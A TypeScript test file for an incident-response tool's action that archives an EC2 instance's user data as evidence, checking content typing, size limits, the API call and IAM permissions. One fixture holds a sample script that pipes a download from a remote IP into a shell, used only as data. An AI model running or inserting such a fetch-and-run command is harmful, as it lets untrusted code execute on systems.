/**
 * `collect-user-data`, the action added as one file (shared/actions/collect-user-data.ts): its
 * artifact from DescribeInstanceAttribute's answer, its collector, its place in the registry,
 * the plan and the evidence function's permissions.
 */
import { createHash } from "node:crypto";
import { gzipSync } from "node:zlib";
import type { EC2Client } from "@aws-sdk/client-ec2";
import { describe, expect, it } from "vitest";
import { userDataArtifact } from "../../../shared/actions/collect-user-data.ts";
import { actionNamed, actionsOfLane, stepsOf } from "../../../shared/actions/index.ts";
import type { ArtifactClients } from "../../../shared/capture/artifacts.ts";
import { ALL_MODULES, FUNCTIONS, functionActions } from "../../../shared/iam/functions.ts";

const b64 = (b: Buffer | string) => Buffer.from(b).toString("base64");

describe("collect-user-data", () => {
  it("archives the user data byte for byte, typed by what it is", () => {
    const script = "#!/bin/bash\ncurl -s http://203.0.113.9/x | sh\n";
    const gz = gzipSync(Buffer.from(script));
    const binary = Buffer.from([0xff, 0xfe, 0x00, 0x80]);

    expect(userDataArtifact(b64(script))).toEqual({
      kind: "content",
      body: Buffer.from(script),
      contentType: "text/plain; charset=utf-8",
    });
    expect(userDataArtifact(b64(gz))).toEqual({ kind: "content", body: gz, contentType: "application/gzip" });
    expect(userDataArtifact(b64(binary))).toEqual({
      kind: "content",
      body: binary,
      contentType: "application/octet-stream",
    });
  });

  it("says there is none when EC2 returns no value or an empty one", () => {
    expect(userDataArtifact(undefined)).toEqual({ kind: "none", reason: "the instance has no user data" });
    expect(userDataArtifact("")).toEqual({ kind: "none", reason: "the instance has no user data" });
  });

  it("refuses an answer longer than EC2 keeps (16 KB), and takes exactly 16 KB", () => {
    expect(() => userDataArtifact(b64(Buffer.alloc(16 * 1024 + 1, 0x41)))).toThrow(/over EC2's limit/);
    expect(userDataArtifact(b64(Buffer.alloc(16 * 1024, 0x41)))).toMatchObject({ kind: "content" });
  });

  it("asks EC2 for that instance's userData attribute and names the artifact after the instance", async () => {
    const sent: unknown[] = [];
    const ec2 = {
      send: async (command: { input: unknown }) => {
        sent.push(command.input);
        return { UserData: { Value: b64("echo hi\n") } };
      },
    } as unknown as EC2Client;
    const collectors = actionNamed("collect-user-data")?.collectors?.({
      instance: { InstanceId: "i-0abc" },
      clients: { ec2 } as ArtifactClients,
      now: new Date(0),
    });

    expect(collectors?.map((c) => [c.name, c.sourceApiCall])).toEqual([
      ["i-0abc/user-data", "ec2:DescribeInstanceAttribute"],
    ]);
    const got = await collectors?.[0]?.collect();

    expect(sent).toEqual([{ InstanceId: "i-0abc", Attribute: "userData" }]);
    expect(got?.kind === "content" && createHash("sha256").update(got.body).digest("hex")).toBe(
      createHash("sha256").update("echo hi\n").digest("hex"),
    );
  });

  it("runs in the evidence lane's artifacts step and is sealed by the manifest", () => {
    expect(actionsOfLane("evidence")).toContain("collect-user-data");
    expect(stepsOf("collect-user-data")).toEqual(["artifacts", "manifest"]);
  });

  it("grants its own call to the evidence function, and to no other", () => {
    expect(ALL_MODULES["collect-user-data"]?.actions).toEqual(["ec2:DescribeInstanceAttribute"]);
    expect(FUNCTIONS.evidence?.modules).toContain("collect-user-data");
    expect(functionActions("evidence")).toContain("ec2:DescribeInstanceAttribute");
    for (const fn of ["triage", "cleanroom", "intake"])
      expect(functionActions(fn), fn).not.toContain("ec2:DescribeInstanceAttribute");
  });

  it("describes its calls for `responder plan`", () => {
    const lines = actionNamed("collect-user-data")?.describe({
      params: {},
      instances: [{ resource: { id: "i-0abc" } } as never],
      contexts: [],
    });
    expect(lines?.[0]).toBe("ec2:DescribeInstanceAttribute i-0abc userData");
  });
});
